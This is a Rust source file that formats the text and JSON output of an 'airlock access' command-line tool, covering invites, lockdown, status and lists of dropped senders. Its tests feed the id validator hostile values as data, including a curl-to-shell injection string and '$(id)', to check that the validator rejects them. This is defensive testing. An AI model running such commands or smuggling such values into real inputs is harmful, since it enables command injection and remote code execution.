//! What `airlock access` prints: aligned text for people, and the JSON
//! forms for scripts (their field names are kept stable).

use std::fmt::Write as _;

use serde_json::{Value, json};

use crate::access::{
    AccessStore, GroupPolicy, Invite, Issued, LockedDown, Recorded, Role, Status, Unlocked,
};

/// Seconds since the epoch, as people read it.
pub(super) fn when(secs: i64) -> String {
    crate::router::time::iso8601((secs.max(0) as u64) * 1000)
}

/// Minutes from now until `secs`, rounded up.
fn minutes_left(secs: i64) -> i64 {
    ((secs - crate::access::now()).max(0) + 59) / 60
}

/// A freshly issued invite, with what to do with it.
pub(super) fn issued(adapter: &str, role: Role, group: bool, ttl: i64, issued: &Issued) -> String {
    let what = if group {
        "to open a group".to_string()
    } else {
        format!("for a new {role}")
    };
    let how = if group {
        format!(
            "Post it in the group, from an account already allowed on {adapter}. The group then opens\n\
             for allowed senders, when they mention the bot."
        )
    } else {
        format!(
            "Send it to the {adapter} bot in a direct message from the account to pair. Whoever sends\n\
             it first is paired, so pass it on only over a channel you trust."
        )
    };
    format!(
        "invite on {adapter} {what}, valid once for {} minutes (until {}):\n\n    {}\n\n{how}\n\
         `airlock access invites` lists live invites; `airlock access invite {adapter} --cancel` withdraws them.\n",
        ttl / 60,
        when(issued.expires_at),
        issued.code,
    )
}

/// `airlock access invites`.
pub(super) fn invites(invites: &[Invite]) -> String {
    if invites.is_empty() {
        return "no live invites (`airlock access invite ADAPTER` issues one)\n".into();
    }
    let width = invites.iter().map(|i| i.adapter.len()).max().unwrap_or(0);
    let mut out = String::new();
    for i in invites {
        let what = if i.for_group {
            "opens a group".to_string()
        } else {
            match i.role {
                Role::Owner => "pairs an owner".to_string(),
                Role::Member => "pairs a member".to_string(),
            }
        };
        let _ = writeln!(
            out,
            "  #{:<4} {:<width$}  {what:<16}  expires {} (in {} min)",
            i.id,
            i.adapter,
            when(i.expires_at),
            minutes_left(i.expires_at)
        );
    }
    out
}

/// What `lockdown` changed.
pub(super) fn locked(done: &LockedDown) -> String {
    let mut out = format!(
        "locked down at {}{}\n  inbound delivery stopped for every adapter, owners included\n  \
         every outbound tool now answers \"airlock is locked down\"\n",
        when(done.state.since),
        done.state
            .reason
            .as_ref()
            .map(|r| format!(" (reason: {r})"))
            .unwrap_or_default()
    );
    for g in &done.closed_groups {
        let _ = writeln!(
            out,
            "  closed group {}:{} (unlock reopens it)",
            g.adapter, g.chat_id
        );
    }
    let _ = writeln!(
        out,
        "  cancelled {} invite(s) (unlock does not restore them)\n  owners are alerted by a running airlock\n\
         `airlock access unlock` restores the state from before.",
        done.cancelled_invites
    );
    out
}

/// What `unlock` changed.
pub(super) fn unlocked(done: &Unlocked) -> String {
    let mut out = format!(
        "unlocked: messages reach the session again and tools send again (locked down since {})\n",
        when(done.ended.since)
    );
    for g in &done.reopened_groups {
        let _ = writeln!(out, "  reopened group {}:{}", g.adapter, g.chat_id);
    }
    out.push_str("  invites cancelled by lockdown stay cancelled; issue new ones if needed\n");
    out
}

/// One recorded alert on one line: when, what, and how often.
fn alert_line(a: &Recorded) -> String {
    let times = if a.count > 1 {
        format!(" ({} times)", a.count)
    } else {
        String::new()
    };
    format!(
        "{}  {}: {}{times}",
        when(a.at),
        a.kind,
        crate::text::one_line(&a.text, 200)
    )
}

/// `airlock access status`.
pub(super) fn status(s: &Status) -> String {
    let mut out = String::new();
    let source = if s.static_access {
        "static: [access.ADAPTER] in airlock.toml (changes only there)"
    } else {
        "the database (`airlock access` commands)"
    };
    let _ = writeln!(out, "access from  {source}");
    match &s.lockdown {
        Some(l) => {
            let _ = writeln!(
                out,
                "lockdown     LOCKED DOWN since {}{}",
                when(l.since),
                l.reason
                    .as_ref()
                    .map(|r| format!(" (reason: {})", crate::text::one_line(r, 200)))
                    .unwrap_or_default()
            );
        }
        None => out.push_str("lockdown     no\n"),
    }
    for a in &s.alerts_24h {
        let _ = writeln!(out, "alert        {}", alert_line(a));
    }
    if s.adapters.is_empty() {
        out.push_str("\nno adapter runs and nobody is allowed\n");
    }
    let ids = |v: &[String]| {
        if v.is_empty() {
            "none".to_string()
        } else {
            v.iter()
                .map(|i| crate::text::one_line(i, 100))
                .collect::<Vec<_>>()
                .join(", ")
        }
    };
    for (name, a) in &s.adapters {
        let _ = writeln!(out, "\n{name}");
        let _ = writeln!(out, "  owners     {}", ids(&a.owners));
        let _ = writeln!(out, "  members    {}", ids(&a.members));
        if a.groups.is_empty() {
            out.push_str("  groups     none open\n");
        }
        for g in &a.groups {
            let _ = writeln!(
                out,
                "  group      {} ({})",
                crate::text::one_line(&g.chat_id, 100),
                describe(GroupPolicy {
                    any_sender: g.any_sender,
                    require_mention: g.require_mention
                })
            );
        }
        let _ = writeln!(out, "  invites    {} live", a.invites.len());
        for b in &a.pairing_blocked {
            let who = match &b.sender_id {
                Some(id) => format!("from {}", crate::text::one_line(id, 100)),
                None => "from everyone".to_string(),
            };
            let _ = writeln!(
                out,
                "  pairing    codes {who} ignored until {} (too many wrong ones)",
                when(b.until)
            );
        }
        let total: u64 = a.drops_24h.values().sum();
        let _ = write!(out, "  dropped    {total} in the last 24 hours");
        if total > 0 {
            let parts: Vec<String> = a
                .drops_24h
                .iter()
                .map(|(r, n)| format!("{n} {r}"))
                .collect();
            let _ = write!(out, " ({})", parts.join("; "));
        }
        out.push('\n');
        let _ = writeln!(
            out,
            "  alerts     {} in the last 24 hours",
            a.alerts_24h.len()
        );
        for al in a.alerts_24h.iter().take(10) {
            let _ = writeln!(out, "             {}", alert_line(al));
        }
        for w in &a.warnings {
            let _ = writeln!(out, "  warning    {w}");
        }
    }
    out
}

/// `airlock access list --json`.
pub(super) fn list_json(access: &AccessStore) -> anyhow::Result<Value> {
    let allowed: Vec<Value> = access
        .allowed()?
        .into_iter()
        .map(|a| json!({"adapter": a.adapter, "sender_id": a.sender_id, "role": a.role, "added_at": a.added_at}))
        .collect();
    let groups: Vec<Value> = access
        .groups()?
        .into_iter()
        .map(|g| json!({"adapter": g.adapter, "chat_id": g.chat_id, "any_sender": g.policy.any_sender, "require_mention": g.policy.require_mention}))
        .collect();
    let dropped: Vec<Value> = access
        .dropped()?
        .into_iter()
        .map(|d| json!({"adapter": d.adapter, "sender_id": d.sender_id, "handle": d.handle, "at": d.at, "first_words": d.first_words, "closed_group": d.closed_group, "reason": d.reason}))
        .collect();
    Ok(
        json!({"static_access": access.is_static(), "allowed": allowed, "groups": groups, "dropped": dropped}),
    )
}

/// How a group is open, in words.
pub(super) fn describe(policy: GroupPolicy) -> String {
    let who = if policy.any_sender {
        "any member"
    } else {
        "allowlisted senders"
    };
    let what = if policy.require_mention {
        "when they mention the bot"
    } else {
        "every message"
    };
    format!("{who}, {what}")
}
/// Whether `id` looks like an id some platform uses: Telegram's integers
/// (negative for groups), Discord's snowflakes, fakechat's and webhook's
/// short names. Only such ids get a suggested command; anything else was
/// made up by someone, and the operator should look before allowing it.
fn plausible_id(id: &str) -> bool {
    let body = id.strip_prefix('-').unwrap_or(id);
    let ok = |c: char| c.is_ascii_alphanumeric() || "_.:@-".contains(c);
    (1..=64).contains(&id.len())
        && body.chars().next().is_some_and(|c| c != '-')
        && body.chars().all(ok)
}

/// The command that lets `id` in (`allow` or `group open`), quoted for the
/// shell, or why there is none.
fn suggest(command: &str, adapter: &str, id: &str) -> String {
    if !plausible_id(id) || !crate::manifest::valid_name(adapter) {
        return "(id has unexpected characters; not suggesting a command)".into();
    }
    format!(
        "→ airlock access {command} {} {}",
        crate::text::shell_quote(adapter),
        crate::text::shell_quote(id)
    )
}

/// `airlock access list`.
pub(super) fn list(access: &AccessStore) -> anyhow::Result<String> {
    let mut out = String::new();
    if access.is_static() {
        out.push_str("access is static: from [access.ADAPTER] in airlock.toml\n");
    }
    out.push_str("allowed\n");
    let allowed = access.allowed()?;
    if allowed.is_empty() {
        out.push_str("  (nobody yet; fakechat's local page is always allowed)\n");
    }
    let width = allowed
        .iter()
        .map(|a| a.adapter.len() + 1 + a.sender_id.chars().count())
        .max()
        .unwrap_or(0);
    for a in allowed {
        let id = format!("{}:{}", a.adapter, crate::text::one_line(&a.sender_id, 100));
        writeln!(out, "  {id:<width$}  {}", a.role)?;
    }
    let groups = access.groups()?;
    if !groups.is_empty() {
        out.push_str("open groups\n");
        for g in groups {
            writeln!(
                out,
                "  {}:{}  ({})",
                g.adapter,
                g.chat_id,
                describe(g.policy)
            )?;
        }
    }
    let dropped = access.dropped()?;
    if !dropped.is_empty() {
        out.push_str("recently dropped (newest first)\n");
        for d in dropped {
            // Platform text: never let it move the cursor or forge a line.
            let sender = crate::text::one_line(&d.sender_id, 100);
            let when = crate::router::time::iso8601((d.at.max(0) as u64) * 1000);
            let handle = d
                .handle
                .map(|h| format!(" @{}", crate::event::sanitize::value(&h)))
                .unwrap_or_default();
            let words = crate::event::sanitize::value(&d.first_words);
            let (place, id, command) = match &d.closed_group {
                Some(group) => (
                    format!(" in group {}", crate::event::sanitize::value(group)),
                    group.as_str(),
                    "group open",
                ),
                None => (String::new(), d.sender_id.as_str(), "allow"),
            };
            let suggestion = if d.reason == crate::access::gate::reason::LOCKED {
                "(dropped during lockdown)".to_string()
            } else {
                suggest(command, &d.adapter, id)
            };
            writeln!(
                out,
                "  {when}  {}:{sender}{handle}{place}  \"{words}\"  {suggestion}",
                d.adapter
            )?;
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn which_ids_get_a_command() {
        let cases = [
            ("123456789", true),
            ("-1001234567890", true),
            ("1234567890123456789", true),
            ("web", true),
            ("ada@example.org", true),
            ("user.name_1:x-y", true),
            ("", false),
            ("-", false),
            ("--help", false),
            ("1; curl -s http://x.example|sh #", false),
            ("$(id)", false),
            ("a b", false),
            ("a\nb", false),
            ("it's", false),
            ("zoë", false),
            ("a\u{202E}b", false),
        ];
        for (id, ok) in cases {
            assert_eq!(plausible_id(id), ok, "{id:?}");
        }
        assert!(plausible_id(&"9".repeat(64)));
        assert!(!plausible_id(&"9".repeat(65)));
    }

    #[test]
    fn suggestions_are_quoted_or_withheld() {
        assert_eq!(
            suggest("allow", "telegram", "-100123"),
            "→ airlock access allow telegram -100123"
        );
        assert_eq!(
            suggest("group open", "telegram", "-100123"),
            "→ airlock access group open telegram -100123"
        );
        assert_eq!(
            suggest("allow", "webhook", "1; curl -s http://x.example|sh #"),
            "(id has unexpected characters; not suggesting a command)"
        );
    }
}
